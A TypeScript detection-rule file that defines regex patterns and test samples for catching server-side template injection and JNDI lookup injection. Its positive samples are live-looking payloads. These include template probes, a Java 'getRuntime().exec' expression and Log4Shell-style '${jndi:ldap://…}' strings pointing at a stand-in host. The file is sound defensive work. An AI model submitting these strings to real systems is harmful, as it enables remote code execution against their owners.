import type { ContentRule } from './rule';

/** Expressions that a template engine would evaluate. Names and filters in braces are what templates are made of. */
export const TEMPLATE_INJECTION: readonly ContentRule[] = [
  {
    id: 'template_arithmetic',
    kind: 'command_injection',
    hints: ['{{', '${', '#{', '<%', '*{', '@('],
    // Multiplying two numbers shows whether the text is evaluated. `${60 * 1000}` within code is code.
    pattern:
      /\{\{\s?["']?\d{1,8}["']?\s?\*\s?["']?\d{1,8}["']?\s?\}\}|<%=\s?\d{1,8}\s?\*\s?\d{1,8}\s?%>|(?:(?<=^\s{0,10})|(?<==))[$#*@][{(]\s?\d{1,8}\s?\*\s?\d{1,8}\s?[})]/gi,
    positives: ['Hello «{{7*7}}»', 'name=«${7*7}»', '«#{ 3 * 3 }»', `«{{7*'7'}}»`, '«<%= 7*7 %>»'],
    negatives: [
      'Total: {{ price * 2 }}',
      'wait `${60 * 1000}` ms',
      'style={{ width: 7 }}',
      '<%= user.name %>',
      'a {{ count }} b',
    ],
  },
  {
    id: 'template_object',
    kind: 'command_injection',
    hints: [
      '__',
      'constructor',
      'config',
      'java',
      'getruntime',
      'freemarker',
      'request.application',
      'lipsum',
      'cycler',
    ],
    pattern:
      /\{[{%][^{}\n]{0,160}?(?:__(?:class|mro|globals|subclasses|builtins|import|base|init)__|constructor\s?\.\s?constructor|\[?["']constructor["']\]?|request\.application|\bconfig\s?\.\s?(?:items|from_object)|(?:lipsum|cycler|joiner|namespace)\s?\.\s?__)|\{\{\s?config\s?\}\}|[$#%*]\{[^{}\n]{0,160}?(?:java\.lang\.(?:runtime|processbuilder|class)|getruntime\s?\(|t\s?\(\s?java\.|@java\.|freemarker\.template)|<#assign\s[^<>\n]{0,80}freemarker\.template\.utility/gi,
    positives: [
      `«{{ ''.__class__».__mro__ }}`,
      `«{{constructor.constructor»('x')()}}`,
      '«{{config}}»',
      '«${T(java.»lang.Runtime).getRuntime().exec("id")}',
    ],
    negatives: [
      'class A:\n  def __init__(self): pass',
      '{{ config.title }}',
      '${java.version}',
      'import java.lang.Runtime;',
      '{% if user %}{{ user.name }}{% endif %}',
    ],
  },
  {
    id: 'jndi_lookup',
    kind: 'command_injection',
    hints: ['${jndi', '${${', '${lower', '${upper', '%24%7bjndi'],
    pattern:
      /(?:\$\{|%24%7b)jndi(?::|%3a)(?:ldaps?|rmi|dns|iiop|nis|corba|https?)?|\$\{\$\{(?:lower|upper|env|sys|::-|date)[:\w-]{0,20}|\$\{(?:j|\$\{)[^\s{}]{0,10}\$\{(?:lower|upper|::-)/gi,
    positives: ['«${jndi:ldap»://x.example/a}', '«${${lower:j»}ndi:rmi://x}', 'ua=«${${::-j»}ndi:x}'],
    negatives: ['${project.version}', 'see java:comp/env/jdbc (JNDI) for the name', '${HOME:-/root}'],
  },
];
